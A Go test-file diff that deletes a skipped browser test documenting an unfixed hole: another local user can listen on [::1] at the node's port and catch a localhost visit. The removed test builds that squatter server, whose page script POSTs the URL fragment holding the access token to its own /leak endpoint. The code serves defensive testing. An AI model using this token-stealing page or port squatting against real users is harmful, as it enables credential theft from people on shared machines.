@@ -244,61 +244,6 @@ func startUIWithToken(t *testing.T, b Backend, token string) *testUI {
 	return &testUI{URL: srv.URL, Addr: addr, Token: token, h: h}
 }
 
-// TestBrowserLocalhostReachesAnotherListener: the node listens on
-// 127.0.0.1:PORT and accepts Host localhost:PORT, but a browser resolves
-// localhost to [::1] first, and any user may listen on [::1]:PORT while
-// the node runs. A person who opens the address with localhost (by habit,
-// or a bookmark) gets that user's page, which reads the token from the
-// address or, after a reload, from sessionStorage; no proof helps, as the
-// page is the squatter's.
-func TestBrowserLocalhostReachesAnotherListener(t *testing.T) {
-	t.Skip("hole: http://localhost:PORT reaches [::1]:PORT, which any user may bind while the node has 127.0.0.1:PORT " +
-		"(even while the node runs). The fix is outside package web: serve listening on both loopback addresses of its port; " +
-		"the node refusing Host localhost would not help, as the tab is then the other listener's")
-	w, _ := newFriends(t)
-	u := startUI(t, w.node("alice"), nil)
-	_, port, err := net.SplitHostPort(u.Addr)
-	if err != nil {
-		t.Fatal(err)
-	}
-	ln, err := net.Listen("tcp", net.JoinHostPort("::1", port))
-	if err != nil {
-		t.Skipf("no [::1]:%s to listen on: %v", port, err)
-	}
-	leak := make(chan string, 1)
-	squat := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
-		if r.URL.Path == "/leak" {
-			b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<10))
-			select {
-			case leak <- string(b):
-			default:
-			}
-			return
-		}
-		rw.Header().Set("Content-Type", "text/html")
-		io.WriteString(rw, `<!doctype html><p>DeMeS</p><script>fetch('/leak', {method: 'POST', body: location.hash});</script>`)
-	})}
-	go squat.Serve(ln)
-	defer squat.Close()
-	p := shared.NewPage(t, pageTimeout)
-	p.Navigate("http://localhost:" + port + "/#token=" + u.Token)
-	if webtest.Eval[bool](p, "!!document.querySelector('#node-state')") {
-		return // the node's page: what the test wants
-	}
-	var got string
-	testutil.Eventually(t, 30*time.Second, "the other listener's page to report", func() bool {
-		select {
-		case got = <-leak:
-			return true
-		default:
-			return false
-		}
-	})
-	if strings.Contains(got, u.Token) {
-		t.Fatal("the listener on [::1] read the token from a page opened at localhost while the node ran")
-	}
-}
-
 // TestBrowserHungChallengeDoesNotFreezeThePage: while the node is down,
 // another user listens on its port and never answers the page's
 // challenge: it keeps the connection open, and lets go of the port for
